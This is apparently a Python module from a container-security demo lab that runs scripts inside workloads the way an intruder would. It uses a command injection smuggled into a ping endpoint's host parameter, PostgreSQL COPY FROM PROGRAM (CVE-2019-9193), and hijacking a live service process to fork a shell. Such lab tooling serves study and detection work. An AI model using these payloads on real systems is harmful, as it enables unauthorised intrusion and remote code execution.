"""The three ways of an intruder into a container, from the plainest to the hardest to see."""

import base64
import binascii
import itertools
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Final
from urllib.parse import quote

import urllib3
from demo.workloads import Workload

from recordings.errors import NoEffectError
from recordings.inject import hijacked

EXEC, SHELL, MACHINE_CODE = "exec", "shell", "machine code"
_PATIENCE_S: Final = 30.0
_NUMBERS: Final = itertools.count()
_ENDED: Final = "-ended-"

Deliver = Callable[[Workload, str], str]
"""Runs a shell script in the container and returns what it printed."""


def by_exec(workload: Workload, script: str) -> str:
    """Run a script as `kubectl exec` does."""
    done = workload.pod.exec(["sh", "-c", script])
    return done.stdout + done.stderr


def by_service(workload: Workload, script: str) -> str:
    """Run a script in a shell that the service itself has started."""
    return _BY_SERVICE[workload.name](workload, script)


def _through_ping(workload: Workload, script: str) -> str:
    # The hole takes one line and gives back standard output alone.
    command = f";echo {_packed(script)} | base64 -d | sh 2>&1"
    url = f"http://{workload.address}:{workload.port}/ping?host={quote(command, safe='')}"
    with urllib3.PoolManager(retries=False, timeout=_PATIENCE_S) as http:
        return http.request("GET", url).data.decode(errors="replace")


def _through_sql(workload: Workload, script: str) -> str:
    # The classic way from SQL to a shell: the server itself runs the program (CVE-2019-9193).
    sql = (
        "CREATE TEMP TABLE loot (line text);"
        # Packed again, since COPY takes tabs and backslashes for its own.
        f"COPY loot FROM PROGRAM 'echo {_packed(script)} | base64 -d | sh 2>&1 | base64';"
        "SELECT string_agg(line, '') FROM loot;"
    )
    psql = workload.lab.load("psql", "-h", workload.address, "-U", "postgres", "-At", "-c", sql, "postgres")
    said = psql.wait(_PATIENCE_S)
    psql.stop()
    try:
        return base64.b64decode(said.split()[-1], validate=True).decode(errors="replace")
    except (binascii.Error, IndexError):
        return said


def _through_fork(workload: Workload, script: str) -> str:
    name = f"tmp/.o{next(_NUMBERS)}"
    said = Path(f"/proc/{workload.pod.container.pid}/root") / name
    with victim(workload) as pid, hijacked(pid) as thread:
        thread.fork_and_run(["/bin/sh", "-c", f"( {script} ) >/{name} 2>&1; echo {_ENDED} >>/{name}"])
    deadline = time.monotonic() + _PATIENCE_S
    while not (said.exists() and _ENDED in said.read_text(errors="replace")):
        if time.monotonic() > deadline:
            msg = f"The shell of {workload.pod.name} did not end within {_PATIENCE_S:.0f} s."
            raise NoEffectError(msg)
        time.sleep(0.05)
    output = said.read_text(errors="replace")
    said.unlink()
    return output


@contextmanager
def victim(workload: Workload) -> Iterator[int]:
    """Give the process of a service that an intruder would take over: one that talks to clients."""
    if workload.name == "data/ledger":
        # A client like all others, whose session is still there when the intruder comes.
        client = ("pgbench", "-h", workload.address, "-U", "postgres", "-n", "-c", "1", "-R", "2", "-T", "3")
        session = workload.lab.load(*client, "-b", "select-only", "postgres")
        try:
            yield _find(workload, "idle")
        finally:
            session.wait(_PATIENCE_S)
            session.stop()
    elif workload.name == "shop/cache":
        yield workload.pod.container.pid
    else:
        yield _children(workload)[0]


def _find(workload: Workload, word: str) -> int:
    deadline = time.monotonic() + _PATIENCE_S
    while time.monotonic() < deadline:
        for pid in _children(workload):
            try:
                title = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
                waits = Path(f"/proc/{pid}/wchan").read_text()
            except OSError:
                continue
            if word in title and "epoll" in waits:
                return pid
        time.sleep(0.05)
    msg = f"{workload.pod.name} has no process that does {word}."
    raise NoEffectError(msg)


def _children(workload: Workload) -> list[int]:
    pid = workload.pod.container.pid
    return [int(each) for each in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def _packed(script: str) -> str:
    return base64.b64encode(script.encode()).decode()


_BY_SERVICE: Final = {
    "shop/web": _through_fork,
    "shop/cache": _through_fork,
    "shop/orders": _through_ping,
    "data/ledger": _through_sql,
}
